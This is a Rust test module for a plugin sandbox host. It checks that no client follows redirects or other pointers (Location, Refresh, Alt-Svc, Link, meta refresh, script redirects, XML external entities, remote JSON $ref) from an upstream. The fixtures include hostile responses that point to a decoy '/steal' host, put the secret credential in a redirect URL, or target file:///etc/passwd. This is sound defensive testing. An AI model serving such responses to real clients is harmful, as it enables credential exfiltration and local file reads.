//! The upstream points elsewhere, in every way that some client follows.

use actionbox_host::Withheld;
use actionbox_tests::{
    attacks,
    liar::Liar,
    scoreboard::{Case, Hole},
};

use crate::stage::{Attack, Fate, Stage, endure_on, say};

attacks! {
    "Redirects and other pointers":
        "The upstream answers that what was asked is elsewhere: at another host, at itself, at an endpoint of the whole \
         organisation, with a credential in the address. Nobody goes there, and of a redirect the plugin sees not even \
         the status.",
    cases,
    play,
    no_pointer_is_followed,
}

const FOLLOWED: [Hole; 2] = [
    Hole {
        what: "outl: the fetch of plugins follows redirects beyond its allow-list, with the headers",
        url: "https://github.com/outlmd/outl/issues/280",
    },
    Hole {
        what: "IronClaw before #1976: requests of WASM channels follow redirects",
        url: "https://github.com/nearai/ironclaw/pull/1976",
    },
];

/// Where an answer can point.
struct Places {
    /// The address of a host that must not hear of it.
    elsewhere: String,
    /// The address of the upstream itself.
    own: String,
    secret: String,
}

#[derive(Clone, Copy)]
struct Pointer {
    status: u16,
    headers: fn(&Places) -> String,
    body: fn(&Places) -> String,
}

const BODY: &str = r#"{"node_status":"Success","data":{}}"#;

fn cases() -> Vec<Case<Pointer>> {
    let mut all = Vec::new();
    let mut redirect = |status: u16, what: &str, headers: fn(&Places) -> String| {
        let pointer = Pointer { status, headers, body: |_| String::new() };
        let case = Case::new(format!("{status} {what}"), pointer);
        let leads_away = what.contains("another host") && matches!(status, 301 | 302 | 303 | 307 | 308);
        all.push(if leads_away { case.catches(&FOLLOWED) } else { case });
    };
    for status in [300, 301, 302, 303, 304, 305, 306, 307, 308, 310, 399] {
        redirect(status, "to another host", |to| format!("location: http://{}/steal\r\n", to.elsewhere));
    }
    for status in [302, 307, 308] {
        redirect(status, "to itself", |to| format!("location: http://{}/api/v2/x\r\n", to.own));
        redirect(status, "to the very same request", |_| {
            "location: /api/v2/integration-schema/hubspot/actions/create_contact/execute\r\n".to_owned()
        });
        redirect(status, "to an endpoint of the organisation", |_| {
            "location: /api/v2/public/linked-account\r\n".to_owned()
        });
        redirect(status, "to another host, with the credential in the address", |to| {
            format!("location: http://{}/?key={}\r\n", to.elsewhere, to.secret)
        });
    }
    redirect(307, "to another host, without a scheme", |to| {
        format!("location: //{}/steal\r\n", to.elsewhere)
    });
    redirect(307, "to another host, with user-info", |to| {
        format!("location: http://app.refold.ai@{}/\r\n", to.elsewhere)
    });
    redirect(307, "to another scheme", |_| "location: file:///etc/passwd\r\n".to_owned());
    redirect(307, "to nowhere", |_| String::new());
    redirect(307, "to two places at once", |to| {
        format!("location: /\r\nlocation: http://{}/\r\n", to.elsewhere)
    });
    redirect(302, "that also refreshes", |to| format!("refresh: 0; url=http://{}/\r\n", to.elsewhere));

    let mut points =
        |status: u16, what: &str, headers: fn(&Places) -> String, body: fn(&Places) -> String| {
            all.push(Case::new(what, Pointer { status, headers, body }));
        };
    let plain = |_: &Places| BODY.to_owned();
    points(200, "a Refresh header", |to| format!("refresh: 0; url=http://{}/\r\n", to.elsewhere), plain);
    points(
        200,
        "a Location header of a success",
        |to| format!("location: http://{}/\r\n", to.elsewhere),
        plain,
    );
    points(201, "a Location header of 201", |to| format!("location: http://{}/\r\n", to.elsewhere), plain);
    points(
        201,
        "a Location header of 201 with the credential",
        |to| format!("location: /{}\r\n", to.secret),
        plain,
    );
    points(
        202,
        "a Content-Location header",
        |to| format!("content-location: http://{}/\r\n", to.elsewhere),
        plain,
    );
    points(
        200,
        "a Link header to preload",
        |to| format!("link: <http://{}/>; rel=preload\r\n", to.elsewhere),
        plain,
    );
    points(
        200,
        "an alternative service",
        |to| format!("alt-svc: h2=\"{0}\"; ma=86400, http/1.1=\"{0}\"\r\n", to.elsewhere),
        plain,
    );
    points(
        200,
        "a meta refresh in HTML",
        |_| "content-type: text/html\r\n".to_owned(),
        |to| format!("<meta http-equiv=refresh content='0; url=http://{}/'>", to.elsewhere),
    );
    points(
        200,
        "a script that goes elsewhere",
        |_| "content-type: text/html\r\n".to_owned(),
        |to| format!("<script>location = 'http://{}/'</script>", to.elsewhere),
    );
    points(
        200,
        "an external entity in XML",
        |_| "content-type: application/xml\r\n".to_owned(),
        |to| format!("<!DOCTYPE x [<!ENTITY y SYSTEM 'http://{}/'>]><x>&y;</x>", to.elsewhere),
    );
    points(
        200,
        "a JSON schema elsewhere",
        |_| String::new(),
        |to| format!(r#"{{"$ref":"http://{0}/","@context":"http://{0}/"}}"#, to.elsewhere),
    );
    points(
        407,
        "a proxy that wants credentials",
        |to| format!("proxy-authenticate: Basic realm=x\r\nlocation: http://{}/\r\n", to.elsewhere),
        |_| String::new(),
    );
    points(
        421,
        "a misdirected request",
        |to| format!("location: http://{}/\r\n", to.elsewhere),
        |_| String::new(),
    );
    points(
        511,
        "a captive portal",
        |to| format!("location: http://{}/login\r\n", to.elsewhere),
        |to| format!("<a href='http://{}/login'>log in</a>", to.elsewhere),
    );
    all
}

async fn play(name: String, pointer: Pointer) {
    let elsewhere = Liar::silent().await;
    let to_elsewhere = elsewhere.addr().to_string();
    let places = move |own: &str, secret: &str| Places {
        elsewhere: to_elsewhere.clone(),
        own: own.to_owned(),
        secret: secret.to_owned(),
    };
    let fate = match pointer.status {
        300..400 => Fate::Withheld(Withheld::Redirect, pointer.status),
        status => Fate::Shown(status, (pointer.body)(&places("", "")).into()),
    };
    let attack = Attack::says(fate, vec![]);
    let stage = Stage::with_script(&name, &attack, move |secrets, _, asked| {
        let to = places(asked.header("host")[0], &secrets.sent);
        say(pointer.status, &(pointer.headers)(&to), (pointer.body)(&to))
    })
    .await;
    endure_on(&stage, &attack.fate).await;
    assert_eq!(elsewhere.connections().await, 0, "somebody went there");
}
